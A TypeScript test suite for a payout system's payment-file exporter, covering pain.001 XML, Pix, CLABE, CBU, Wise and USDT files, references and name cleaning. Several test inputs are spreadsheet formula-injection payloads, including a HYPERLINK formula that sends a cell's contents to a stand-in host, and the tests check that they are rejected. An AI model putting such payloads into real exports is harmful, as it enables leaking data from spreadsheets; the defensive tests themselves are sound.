// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import type { Currency } from '#app/domain/ledger/money.ts';
import { tronAddressOf } from '../../../../scripts/seed/tron-address.ts';
import type { Destination } from '#app/domain/payouts/batch.ts';
import type { FileRow } from '#app/domain/payouts/files/batch-file.ts';
import { planPaymentFiles, writePaymentFile } from '#app/domain/payouts/files/payment-files.ts';
import { payerSchema } from '#app/domain/payouts/files/payer.ts';
import { paymentReference, uidOfPayment } from '#app/domain/payouts/files/payment-reference.ts';
import { LATIN_NAME, SEPA_NAME, SPEI_NAME, toBankText } from '#app/domain/payouts/files/bank-text.ts';
import { readResultFile } from '#app/domain/payouts/files/result-file.ts';
import { faultsOf, textsOf } from './credit-transfer-message.ts';

/** Native payment files: ISO 20022 pain.001.001.09, Pix, CLABE, CBU, Wise and USDT. */

const CYCLE = '2026-12-01';
const PAYER = { name: 'Greenroom GmbH', iban: 'DE89370400440532013000' };
const exportedAt = new Date('2026-11-29T12:34:56.789Z');

const sepa = (holder: string, iban = 'FR1420041010050500013M02606'): Destination => ({
  ...{ type: 'bank', network: 'SEPA', details: { holder, iban } },
});
const row = (uid: string, amountMinor: number, destination: Destination, currency: Currency = 'EUR'): FileRow => ({
  ...{ uid, username: `@${uid}`, amountMinor, currency, destination },
});
const bank = (network: string, details: Record<string, string>): Destination => ({ type: 'bank', network, details });

const FIREBASE_UID = 'Zt5bX9QmR2cVk7LpWj3NhY8dFg1s';

async function write(rows: readonly FileRow[], format: string, payer: typeof PAYER | null = PAYER, at = exportedAt) {
  const [group] = planPaymentFiles(CYCLE, rows, payer);
  const { network, currency, files } = group!;
  const plan = files.find((one) => one.format === format)!;
  const text = writePaymentFile(plan, { cycleId: CYCLE, network, currency, exportedAt: at, payer });
  return { plan, text: text ?? '' };
}

describe('a pain.001.001.09 message', () => {
  const rows = [row(FIREBASE_UID, 1_250_05, sepa("Ñandú & Söhne O'Neil")), row('bea', 29, sepa('Łukasz Groß'))];

  it('is as ISO 20022 and SEPA have it', async () => {
    expect(faultsOf((await write(rows, 'pain001')).text)).toEqual([]);
  });

  it.each<[string, (xml: string) => string]>([
    ['another order', (xml) => xml.replace(/(<Cdtr>.*?<\/Cdtr>)(<CdtrAcct>.*?<\/CdtrAcct>)/, '$2$1')],
    ['a letter that SEPA does not take', (xml) => xml.replace('Lukasz', 'Łukasz')],
    ['a name of 71 characters', (xml) => xml.replace('Lukasz Gross', 'L'.repeat(71))],
    ['a sum without decimals', (xml) => xml.replace('<CtrlSum>1250.34</CtrlSum>', '<CtrlSum>1250</CtrlSum>')],
    ['an element that it does not have', (xml) => xml.replace('<ChrgBr>', '<Cost>1</Cost><ChrgBr>')],
    ['another version', (xml) => xml.replace('pain.001.001.09', 'pain.001.001.03')],
  ])('is checked: %s is a fault', async (_what, bend) => {
    const { text } = await write(rows, 'pain001');
    expect(bend(text)).not.toBe(text);
    expect(faultsOf(bend(text))).not.toEqual([]);
  });

  it('counts and adds up what it carries, to the cent', async () => {
    const { text } = await write(rows, 'pain001');
    expect(textsOf(text, 'NbOfTxs')).toEqual(['2', '2']);
    expect(textsOf(text, 'CtrlSum')).toEqual(['1250.34', '1250.34']);
    expect(textsOf(text, 'InstdAmt')).toEqual(['1250.05', '0.29']);
    expect(textsOf(text, 'Nm').slice(-2)).toEqual(["Nandu Sohne O'Neil", 'Lukasz Gross']);
  });

  it('executes on the payday, or on the day of a late export', async () => {
    expect(textsOf((await write(rows, 'pain001')).text, 'Dt')).toEqual([CYCLE]);
    const late = await write(rows, 'pain001', PAYER, new Date('2026-12-03T01:00:00Z'));
    expect(textsOf(late.text, 'Dt')).toEqual(['2026-12-03']);
  });

  it('has the same bytes for the same payouts, and one id when it is made again without some: a bank refuses it twice', async () => {
    const id = async (of: readonly FileRow[]) => textsOf((await write(of, 'pain001')).text, 'MsgId')[0];
    expect((await write([...rows].reverse(), 'pain001')).text).toBe((await write(rows, 'pain001')).text);
    expect(await id(rows.slice(1))).toBe(await id(rows));
  });

  it('names each payout by a reference that the result import recognises', async () => {
    const references = textsOf((await write(rows, 'pain001')).text, 'EndToEndId');
    expect(references[0]).toHaveLength(30);
    const lines = references.map((reference, at) => `${reference},paid,TX-${at},1.00,EUR`);
    const { rows: read } = readResultFile(['payment_id,status,reference,amount,currency', ...lines].join('\n'), CYCLE);
    expect(read.map(({ uid }) => uid)).toEqual([FIREBASE_UID, 'bea']);
  });

  it('is not made without the account to debit', async () => {
    expect((await write(rows, 'pain001', null)).plan.refusal).toBe('payer');
    expect((await write(rows, 'pain001', null)).text).toBe('');
  });
});

describe('what a format cannot carry', () => {
  const named = async (rows: readonly FileRow[], format: string) =>
    (await write(rows, format)).plan.leftOut.map(({ username, reason }) => `${username} ${reason}`);

  it('is left out by name, and the rest is carried', async () => {
    const rows = [
      row('ann', 10_00, sepa('Ann Good')),
      row('ben', 10_00, sepa('李小龙')),
      row('cid', 10_00, sepa('C'.repeat(71))),
      row('dan', 10_00, sepa('Dan Swiss', 'CH9300762011623852957')),
      row('eve', 1_000_000_000_00, sepa('Eve Rich')),
      row('f'.repeat(29), 10_00, sepa('Finn Long')),
      row('gil.1', 10_00, sepa('Gil Dot')),
      row('hal', 10_00, sepa('Hal Wrong', 'FR1420041010050500013M02607')),
    ];
    expect(await named(rows, 'pain001')).toEqual([
      ...['@ben name', '@cid name-length', '@dan outside-eea', '@eve amount'],
      ...[`@${'f'.repeat(29)} reference`, '@gil.1 reference', '@hal account'],
    ]);
    const { plan, text } = await write(rows, 'pain001');
    expect(textsOf(text, 'CtrlSum')[0]).toBe('10.00');
    expect(plan.amountMinor).toBe(10_00);
  });

  it('makes no file where nothing is left, or more than a provider takes', async () => {
    expect((await write([row('ben', 10_00, sepa('李小龙'))], 'pain001')).plan.refusal).toBe('empty');
    const many = Array.from({ length: 1_001 }, (_, at) => row(`u${at}`, 1_00, sepa('Ann')));
    expect((await write(many, 'wise')).plan.refusal).toBe('too-many');
    expect((await write(many.slice(1), 'wise')).plan.refusal).toBeNull();
    expect((await write(many, 'pain001')).plan.refusal).toBeNull();
  });

  it('is never a formula', async () => {
    const key = bank('PIX', { holder: 'Ana', pixKey: '=cmd@x.com' });
    expect(await named([row('ana', 10_00, key, 'BRL')], 'pix')).toEqual(['@ana account']);
    const { text } = await write(
      [row('bea', 10_00, bank('PIX', { holder: '=1+1 Bea', pixKey: 'b@x.com' }), 'BRL')],
      'pix',
    );
    expect(text).toContain(',1 1 Bea,');
  });
});

describe('lists of banks and providers', () => {
  const PIX: [kind: string, key: string, inFile?: string][] = [
    ['EMAIL', 'ana@x.com'],
    ['TELEFONE', '+5511999990000'],
    ['CPF', '529.982.247-25', '52998224725'],
    ['CPF', '52998224-725', '52998224725'],
    ['CNPJ', '11.222.333/0001-81', '11222333000181'],
    ['CNPJ', '11222333-0001-81', '11222333000181'],
    ['ALEATORIA', '123e4567-e89b-12d3-a456-426614174000'],
  ];

  it.each(['=cmd@x.com', '+HYPERLINK("http://x.com/?"&C2,"a@b.c")', '@x@y.com', '＝cmd@x.com', '-1@x.com'])(
    'a Pix key that a spreadsheet would run is left out: %s',
    async (pixKey) => {
      const { plan } = await write([row('ana', 10_00, bank('PIX', { holder: 'Ana', pixKey }), 'BRL')], 'pix');
      expect(plan).toMatchObject({ transfers: [], leftOut: [{ uid: 'ana', reason: 'account' }] });
    },
  );

  it.each(PIX)('Pix: %s %s', async (kind, pixKey, inFile = pixKey) => {
    const { text } = await write([row('ana', 1_234_50, bank('PIX', { holder: 'João Ávila', pixKey }), 'BRL')], 'pix');
    expect(text).toBe(
      'tipo_chave,chave,nome,valor,descricao,identificador\r\n' +
        `${kind},${inFile},Joao Avila,1234.50,Pagamento 2026-12-01,${paymentReference('ana', CYCLE)}\r\n`,
    );
  });

  it('CLABE', async () => {
    const to = bank('CLABE', { holder: 'Carla Núñez-Ruiz', clabe: '032180000118359719' });
    const { text } = await write([row('carla', 2_010_00, to, 'MXN')], 'clabe');
    expect(text.split('\r\n')[1]).toBe(
      `032180000118359719,Carla Nunez Ruiz,2010.00,Pago 20261201,261201,${paymentReference('carla', CYCLE)}`,
    );
  });

  it('CBU', async () => {
    const to = bank('CBU', { holder: 'Facundo, Vera', cbu: '2850590940090418135201' });
    const { text } = await write([row('fac', 48_500_00, to, 'ARS')], 'cbu');
    expect(text.split('\r\n')[1]).toBe(
      `2850590940090418135201,"Facundo, Vera",48500.00,ARS,Pago 2026-12-01,${paymentReference('fac', CYCLE)}`,
    );
  });

  it('USDT: address, amount, network, and the payment id', async () => {
    const address = tronAddressOf('ana');
    const to: Destination = { type: 'crypto', network: 'TRC20', details: { address } };
    const { text } = await write([row('ana', 45_29, to, 'USD')], 'usdt');
    expect(text).toBe(`address,amount,token,network,reference\r\n${address},45.29,USDT,TRC20,ana_${CYCLE}\r\n`);
  });

  it('Wise: the recipient gets the amount in its own currency, and what is left of it in another', async () => {
    const clabe = bank('CLABE', { holder: 'Carla Núñez', clabe: '032180000118359719' });
    const cells = async (one: FileRow) => (await write([one], 'wise')).text.split('\r\n')[1]!.split(',');
    const reference = paymentReference('ana', CYCLE)!;
    expect(await cells(row('ana', 90_00, sepa('Ana Gómez')))).toEqual([
      ...['Ana Gómez', '', reference, 'PERSON', 'target', '90.00', 'EUR', 'EUR'],
      ...['FR1420041010050500013M02606', ''],
    ]);
    expect((await cells(row('ana', 90_00, clabe, 'MXN'))).slice(4)).toEqual([
      ...['target', '90.00', 'MXN', 'MXN', '', '032180000118359719'],
    ]);
    expect((await cells(row('ana', 90_00, clabe, 'USD'))).slice(4, 8)).toEqual(['source', '90.00', 'USD', 'MXN']);
  });

  it('groups by method and currency, and says where there is no list', () => {
    const pix = bank('PIX', { holder: 'Ana', pixKey: 'ana@x.com' });
    const rows = [row('ana', 5_00, pix, 'USD'), row('bea', 6_00, pix, 'BRL'), row('cid', 7_00, pix, 'BRL')];
    const groups = planPaymentFiles(CYCLE, rows, null);
    expect(groups.map(({ name, count, amountMinor, files }) => [name, count, amountMinor, files.length])).toEqual([
      ['PIX_BRL', 2, 13_00, 1],
      ['PIX_USD', 1, 5_00, 0],
    ]);
  });
});

describe('a payment reference', () => {
  it.each([
    ['ana', '2020-01-01', 'ana00'],
    ['ana', '2020-01-15', 'ana02'],
    ['ana', '2026-12-01', 'ana98'],
    ['ana', '2046-12-15', 'anazy'],
    ['z-a_zd', '2026-12-01', 'zzzdazuzzd99'],
    ['zd', '2026-12-01', 'zd98'],
  ])('of %s names the payday %s in two characters', (uid, cycle, reference) => {
    expect(paymentReference(uid, cycle)).toBe(reference);
    expect(uidOfPayment(reference, cycle)).toBe(uid);
    expect(uidOfPayment(`${uid}_${cycle}`, cycle)).toBe(uid);
  });

  it('of another payday or of nobody is none', () => {
    expect(uidOfPayment('ana98', '2026-12-15')).toBeNull();
    expect(uidOfPayment('98', CYCLE)).toBeNull();
    expect(uidOfPayment('ana_2026-12-15', CYCLE)).toBeNull();
  });

  it('is as long as SPEI takes it', () => {
    expect(paymentReference(FIREBASE_UID, CYCLE)).toHaveLength(30);
    expect(paymentReference(`${FIREBASE_UID}x`, CYCLE)).toBeNull();
    expect(paymentReference('a.b', CYCLE)).toBeNull();
  });
});

describe('a name for a bank', () => {
  it.each([
    ['Žofia  Ærø', SEPA_NAME, 'Zofia AEro'],
    ['//A//B//', SEPA_NAME, 'A/B'],
    ['-Ana', SEPA_NAME, 'Ana'],
    ['José; Pérez_1', SPEI_NAME, 'Jose Perez 1'],
    ['José Pérez', LATIN_NAME, 'José Pérez'],
    ['@José', LATIN_NAME, 'José'],
  ])('%s', (name, characters, text) => {
    expect(toBankText(name, characters)).toEqual({ ok: true, text });
  });

  it.each(['Иван', '  ', '***', 'Ana ٣'])('%s can not be written', (name) => {
    expect(toBankText(name, SEPA_NAME)).toEqual({ ok: false, reason: 'name' });
  });
});

describe('the account to debit', () => {
  it('is an IBAN of the European Economic Area with a name', () => {
    expect(payerSchema.parse({ name: 'Größe GmbH', iban: 'de89 3704 0044 0532 0130 00' })).toEqual({
      ...{ name: 'Grosse GmbH', iban: 'DE89370400440532013000' },
    });
    for (const bend of [{ name: ' ' }, { name: 'x'.repeat(71) }, { iban: 'CH9300762011623852957' }, { iban: 'DE1' }]) {
      expect(payerSchema.safeParse({ ...PAYER, ...bend }).success).toBe(false);
    }
  });
});
